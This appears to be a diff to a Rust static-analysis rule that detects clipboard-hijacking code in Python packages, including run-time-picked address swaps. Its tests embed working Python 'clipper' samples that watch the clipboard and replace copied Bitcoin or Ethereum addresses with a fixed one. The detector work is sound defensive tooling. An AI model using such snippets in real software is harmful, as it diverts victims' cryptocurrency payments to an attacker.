@@ -80,6 +80,15 @@ pub fn wallet_address(text: &str) -> Option<&'static str> {
     }
 }
 
+/// Notes wallet address literals, for writes that pick one at run time.
+pub fn check_string(checker: &mut Checker, value: &str) {
+    if value.len() <= 100
+        && let Some(coin) = wallet_address(value)
+    {
+        checker.note_wallet_literal(value, coin);
+    }
+}
+
 /// Clipboard reads and writes.
 pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     if reads_clipboard(qualname) {
@@ -92,13 +101,23 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     let Some(arg) = call.arguments.args.last() else {
         return;
     };
-    let Some(address) = checker.fold(arg).and_then(|v| v.as_text()) else {
-        return;
-    };
-    let Some(coin) = wallet_address(&address) else {
-        return;
-    };
     let swaps = checker.has_read_clipboard();
+    // `for pattern, mine in SWAPS: ... clipboard_append(mine)`: the address written is one of
+    // the module's own address literals, picked at run time; only a file that also reads the
+    // clipboard counts that way.
+    let (address, coin) = match checker.fold(arg).and_then(|v| v.as_text()) {
+        Some(address) => match wallet_address(&address) {
+            Some(coin) => (address, coin),
+            None => return,
+        },
+        None if swaps && matches!(arg, ruff_python_ast::Expr::Name(_)) => {
+            match checker.wallet_literal() {
+                Some((address, coin)) => (address.clone(), *coin),
+                None => return,
+            }
+        }
+        None => return,
+    };
     let context = checker.context();
     let severity = match (context, swaps) {
         (ExecContext::TestOrDocs, _) => 0.1,
@@ -156,6 +175,10 @@ mod tests {
     fn swapping_a_copied_address_is_a_clipper() {
         let code = "import re, time, pyperclip\nBTC = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')\ndef watch():\n    while True:\n        if BTC.match(pyperclip.paste()):\n            pyperclip.copy('bc1qqwkpp77ya9qavyh8sm8e4usad45fwlusg7vs5v')\n        time.sleep(0.5)\n";
         assert!(max_severity("p/pkg/clip.py", code, "WH220") >= 0.85);
+        let picked = "import re, tkinter\nSWAPS = [(re.compile(r'^0x[a-fA-F0-9]{40}$'), '0x7a3F9c1E2b4D5e6F708192A3b4C5d6E7f8091a2B')]\ndef tick(root):\n    text = root.clipboard_get()\n    for rx, mine in SWAPS:\n        if rx.match(text):\n            root.clipboard_clear()\n            root.clipboard_append(mine)\n";
+        assert!(max_severity("p/pkg/__init__.py", picked, "WH220") >= 0.8);
+        let echo = "import tkinter\nDONATE = '0x7a3F9c1E2b4D5e6F708192A3b4C5d6E7f8091a2B'\ndef upper(root):\n    text = root.clipboard_get()\n    root.clipboard_append(text.upper())\n";
+        assert!(max_severity("p/pkg/__init__.py", echo, "WH220") < 0.5);
         let donate = "import pyperclip\ndef donate():\n    pyperclip.copy('bc1qqwkpp77ya9qavyh8sm8e4usad45fwlusg7vs5v')\n";
         assert!(max_severity("p/pkg/about.py", donate, "WH220") < 0.2);
         let text =
